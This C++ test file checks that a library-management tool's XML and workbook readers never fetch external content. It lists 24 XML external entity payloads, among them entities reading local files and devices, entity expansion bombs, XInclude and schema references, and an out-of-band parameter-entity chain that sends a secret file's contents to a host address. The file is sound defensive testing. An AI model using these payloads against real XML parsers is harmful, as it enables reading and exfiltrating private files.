// Documents that name other files and machines, in every place where XML is read: nothing that they
// name is ever fetched. tests/cli/external_content_trace_test.cpp runs these cases under a trace.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <filesystem>
#include <string>
#include <vector>

#include "platform/text.h"
#include "platform/workbooks/workbook_file.h"
#include "tests/bad_input/library_operations.h"
#include "tests/support/packed_file.h"
#include "tests/support/world.h"

namespace quorbind::testing {
namespace {

using namespace library_file;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::Not;

/// What stands in a file that documents name and nobody reads.
constexpr const char* kSecret = "the hidden word";
constexpr const char* kSecretFile = "secret.txt";

/// What somebody may have put into a document. `{disk}` stands for the folder of the secret file,
/// `{host}` for a machine.
struct Payload {
  std::string name;
  /// In front of the root.
  std::string prolog;
  /// Behind the last child of the root.
  std::string inside;
  /// Whether a document type is declared, which no document may do.
  bool declaresType = true;
};

std::vector<Payload> payloads() {
  const std::string file = "file://{disk}/secret.txt";
  const std::string address = "http://{host}/secret.txt";
  return {
      {"entity of a file", "<!DOCTYPE r [<!ENTITY e SYSTEM '" + file + "'>]>", "&e;"},
      {"entity of a path", "<!DOCTYPE r [<!ENTITY e SYSTEM '{disk}/secret.txt'>]>", "&e;"},
      {"entity of a relative path", "<!DOCTYPE r [<!ENTITY e SYSTEM 'secret.txt'>]>", "&e;"},
      {"entity of an address", "<!DOCTYPE r [<!ENTITY e SYSTEM '" + address + "'>]>", "&e;"},
      {"entity of a share", "<!DOCTYPE r [<!ENTITY e SYSTEM '\\\\{host}\\s\\secret.txt'>]>", "&e;"},
      {"entity of a device", "<!DOCTYPE r [<!ENTITY e SYSTEM 'file:///dev/stdin'>]>", "&e;"},
      {"public entity", "<!DOCTYPE r [<!ENTITY e PUBLIC 'x' '" + file + "'>]>", "&e;"},
      {"inner entity", "<!DOCTYPE r [<!ENTITY e '<b/>'>]>", "&e;"},
      {"entity in an attribute", "<!DOCTYPE r [<!ENTITY e 'x'>]>", "<b c='&e;'/>"},
      {"entities that multiply", "<!DOCTYPE r [<!ENTITY a 'x'><!ENTITY b '&a;&a;'>]>", "&b;&b;"},
      {"parameter entity of a file", "<!DOCTYPE r [<!ENTITY % e SYSTEM '" + file + "'>%e;]>", ""},
      {"parameter entity of an address",
       "<!DOCTYPE r [<!ENTITY % e SYSTEM '" + address + "'>%e;]>",
       ""},
      {"entity out of another one",
       "<!DOCTYPE r [<!ENTITY % f SYSTEM '" + file +
           "'><!ENTITY % d '<!ENTITY &#37; s SYSTEM \"http://{host}/%f;\">'>%d;%s;]>",
       ""},
      {"document type in a file", "<!DOCTYPE r SYSTEM '" + file + "'>", ""},
      {"document type at an address", "<!DOCTYPE r SYSTEM '" + address + "'>", ""},
      {"public document type",
       "<!DOCTYPE r PUBLIC '-//W3C//DTD XHTML 1.0//EN' '" + address + "'>",
       ""},
      {"empty document type", "<!DOCTYPE r>", ""},
      {"default attribute", "<!DOCTYPE r [<!ATTLIST r c CDATA 'x'>]>", ""},
      {"notation",
       "<!DOCTYPE r [<!NOTATION n SYSTEM '" + file + "'><!ENTITY e SYSTEM '" + address +
           "' NDATA n>]>",
       ""},
      {"inclusion",
       "",
       "<i:include xmlns:i='http://www.w3.org/2001/XInclude' parse='text' href='" + file + "'/>",
       false},
      {"inclusion from an address",
       "",
       "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='" + address + "'/>",
       false},
      {"schema",
       "",
       "<b xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:noNamespaceSchemaLocation='" +
           file + "' s:schemaLocation='u " + address + "' xml:base='" + address + "'/>",
       false},
      {"style sheet",
       "<?xml-stylesheet type='text/xsl' href='" + file + "'?><?xml-model href='" + address + "'?>",
       "",
       false},
      {"list of addresses", "<?oasis-xml-catalog catalog='" + file + "'?>", "<b/>", false},
  };
}

enum class Encoding { kUtf8, kUtf16LittleEndian, kUtf16BigEndian };
constexpr std::array kEncodings{
    Encoding::kUtf8, Encoding::kUtf16LittleEndian, Encoding::kUtf16BigEndian};

std::string encoded(const std::string& text, Encoding encoding) {
  switch (encoding) {
    case Encoding::kUtf16LittleEndian:
      return utf16File(text);
    case Encoding::kUtf16BigEndian:
      return utf16BigEndianFile(text);
    case Encoding::kUtf8:
      break;
  }
  return text;
}

/// A document with a payload in it.
std::string withPayload(const std::string& document, const Payload& payload) {
  return payload.prolog + std::string(document).insert(document.rfind("</"), payload.inside);
}

/// A library on a real disk, and the secret on another.
class ExternalContent : public ::testing::Test {
 protected:
  ExternalContent() {
    secret_.write(kSecretFile, kSecret);
    // The last question to the disk before the documents; a trace begins here.
    static_cast<void>(std::filesystem::exists("here the documents begin"));
  }

  void restore() {
    for (const auto& [name, bytes] : sound_) {
      if (bytes != "(folder)") {
        world_.disk.write(name, bytes);
      }
    }
    world_.user.forget();
  }

  [[nodiscard]] Payload aimed(Payload payload) const {
    for (std::string* text : {&payload.prolog, &payload.inside}) {
      *text = replaceAll(*text, "{disk}", secret_.path().generic_string());
      *text = replaceAll(*text, "{host}", "127.0.0.1:9");
    }
    return payload;
  }

  template <typename Check>
  void forEachPayload(Check check) {
    std::size_t next = 0;
    for (const Payload& payload : payloads()) {
      for (const Encoding encoding : kEncodings) {
        if (next++ % kStep == 0) {
          SCOPED_TRACE(payload.name + " in encoding " + std::to_string(static_cast<int>(encoding)));
          check(aimed(payload), encoding);
        }
      }
    }
  }

  /// Runs an operation of the library with a payload in one of its files.
  void runWith(const std::string& operation, const char* file) {
    const auto& all = libraryOperations();
    const auto found = std::find_if(
        all.begin(), all.end(), [&](const LibraryOperation& one) { return one.name == operation; });
    ASSERT_NE(found, all.end());
    forEachPayload([&](const Payload& payload, Encoding encoding) {
      restore();
      const std::string bytes = encoded(withPayload(soundText(file), payload), encoding);
      world_.disk.write(file, bytes);
      Module module(world_.platform());
      module.state.rememberedBookFolder = "Guide";
      found->run(module, world_.user);
      EXPECT_THAT(world_.user.record(), Not(Contains(HasSubstr(kSecret))));
      if (payload.declaresType) {
        EXPECT_EQ(world_.disk.read(file), bytes) << "it was taken for a document";
      } else {
        expectSecretInNoFile();
      }
    });
  }

  void expectSecretInNoFile() {
    for (const auto& [name, bytes] : world_.disk.contents()) {
      EXPECT_THAT(bytes, Not(HasSubstr(kSecret))) << name;
      EXPECT_THAT(bytes, Not(HasSubstr(utf16File(kSecret).substr(2)))) << name;
    }
  }

  /// Under Wine documents cost many times as much, and there are the fewer of them.
  static constexpr std::size_t kStep = QUORBIND_DAMAGE_STEP;

  TemporaryFolder secret_;
  World world_;
  const WholeLibrary::Tree sound_ = WholeLibrary().sound();
};

TEST_F(ExternalContent, HasTwentyFourPayloadsOfWhichTheDocumentTypesAreRefused) {
  EXPECT_EQ(payloads().size(), 24U);
  forEachPayload([&](const Payload& payload, Encoding encoding) {
    restore();
    world_.disk.write("in/a.xml", encoded(withPayload("<r>text</r>", payload), encoding));
    const auto document = world_.platform().xml.createDocument();
    EXPECT_EQ(document->load("C:\\in\\a.xml").loaded, !payload.declaresType);
    if (!payload.declaresType) {
      EXPECT_EQ(document->documentElement().text(), "text");
    }
  });
}

TEST_F(ExternalContent, OfACatalogueIsNotFetched) {
  runWith("BookInfo", kCatalogue);
  runWith("strBookAcroInfo", kCatalogue);
}
TEST_F(ExternalContent, OfACatalogueThatIsMergedIsNotFetched) {
  runWith("strMatchingBooksInfo", kOtherCatalogue);
}
TEST_F(ExternalContent, OfACatalogueThatABookIsInstalledInIsNotFetched) {
  runWith("CreateQuorBookNodeForSEntry", kCatalogue);
}
TEST_F(ExternalContent, OfABookFileIsNotFetched) {
  runWith("UpdateBookNameAcro", kBook);
  runWith("mbsetQuorBookProperties", kBook);
}
TEST_F(ExternalContent, OfABookFileThatIsCopiedIsNotFetched) {
  runWith("mbsetQuorBookProperties in another folder", kBook);
}
TEST_F(ExternalContent, OfABookFileThatIsAddedIsNotFetched) {
  runWith("Book_Valuator of a book file", kOtherBook);
}
TEST_F(ExternalContent, OfCategoriesIsNotFetched) {
  runWith("AddBookCateToXMLFile", kCategories);
}
TEST_F(ExternalContent, OfDefaultCategoriesIsNotFetched) {
  runWith("bCheckIfDefaultCategory", kDefaults);
}
TEST_F(ExternalContent, OfKeywordsIsNotFetched) {
  runWith("AddKeywordsToXmlFile", kKeywords);
}
TEST_F(ExternalContent, OfLinkIdentifiersIsNotFetched) {
  runWith("AddToLinkIDFile", kLinks);
  runWith("CheckDuplicateLinkID", kOtherLinks);
}
TEST_F(ExternalContent, OfTheListOfLibrariesIsNotFetched) {
  runWith("QuorLocation", kSelection);
}

TEST_F(ExternalContent, OfThePartsOfAWorkbookIsNotFetched) {
  restore();
  for (const auto& [part, text] : smallWorkbook()) {
    forEachPayload([&](const Payload& payload, Encoding encoding) {
      world_.disk.write(
          "in/book.xlsx",
          smallWorkbookWith(part, encoded(withPayload(text, payload), encoding)).bytes());
      const WorkbookReading reading =
          readWorkbookFile(world_.platform().files, world_.platform().xml, "C:\\in\\book.xlsx");
      EXPECT_EQ(static_cast<bool>(reading), !payload.declaresType) << part << reading.reason;
      if (reading) {
        EXPECT_EQ(reading.texts->cellText(0, 1, 1), "text");
      }
    });
  }
}

}  // namespace
}  // namespace quorbind::testing
